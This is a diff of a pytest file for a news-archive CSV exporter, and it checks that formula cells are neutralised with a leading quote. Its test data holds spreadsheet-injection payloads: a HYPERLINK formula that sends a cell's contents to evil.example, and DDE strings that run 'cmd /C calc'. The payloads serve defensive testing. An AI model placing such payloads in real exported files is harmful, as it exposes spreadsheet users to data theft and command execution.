@@ -17,7 +17,7 @@ from tests.conftest import messages, run_cli
 from tests.test_analysis_data import ARTICLES, make_record
 
 CRAFTED = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看原文\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"点击查看原文")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+9)*cmd|' /C calc'!A0",
@@ -31,8 +31,20 @@ def test_formula_cells_get_a_leading_quote(cell):
     assert neutralise_formula(cell) == "'" + cell
 
 
-@pytest.mark.parametrize("cell", ["人工智能芯片竞赛升温", "AI=未来", " =1+1", "'=1+1", "", "1-2", "2026-11-28T10:30:00+08:00",
-                                  "https://www.thepaper.cn/newsDetail_forward_1", "＝全角等号"])
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "人工智能芯片竞赛升温",
+        "AI=未来",
+        " =1+1",
+        "'=1+1",
+        "",
+        "1-2",
+        "2026-11-28T10:30:00+08:00",
+        "https://www.thepaper.cn/newsDetail_forward_1",
+        "＝全角等号",
+    ],
+)
 def test_other_cells_are_unchanged(cell):
     assert neutralise_formula(cell) == cell
 
@@ -72,7 +84,9 @@ def crafted_archive(tmp_path):
 
 def test_export_csv_from_the_command_line(crafted_archive, tmp_path):
     out = tmp_path / "a.csv"
-    proc = run_cli("export", "--db", crafted_archive, "--format", "csv", "--columns", "cont_id,title,tags", "-o", str(out))
+    proc = run_cli(
+        "export", "--db", crafted_archive, "--format", "csv", "--columns", "cont_id,title,tags", "-o", str(out)
+    )
     assert proc.returncode == 0 and messages(proc.stderr) == ["exported 7 articles (csv)"]
     with open(out, newline="", encoding="utf-8") as f:
         rows = {int(r[0]): r[1:] for r in list(csv.reader(f))[1:]}
@@ -80,8 +94,18 @@ def test_export_csv_from_the_command_line(crafted_archive, tmp_path):
         assert rows[32000000 + i] == ["'" + title, "'=标签"]
     assert rows[ARTICLES[0][0]] == [ARTICLES[0][4], ";".join(ARTICLES[0][6])]  # a normal title stays as it is
 
-    kept = run_cli("export", "--db", crafted_archive, "--format", "csv", "--columns", "cont_id,title", "--keep-formulas",
-                   "-o", str(out))
+    kept = run_cli(
+        "export",
+        "--db",
+        crafted_archive,
+        "--format",
+        "csv",
+        "--columns",
+        "cont_id,title",
+        "--keep-formulas",
+        "-o",
+        str(out),
+    )
     assert kept.returncode == 0
     with open(out, newline="", encoding="utf-8") as f:
         titles = {int(r[0]): r[1] for r in list(csv.reader(f))[1:]}
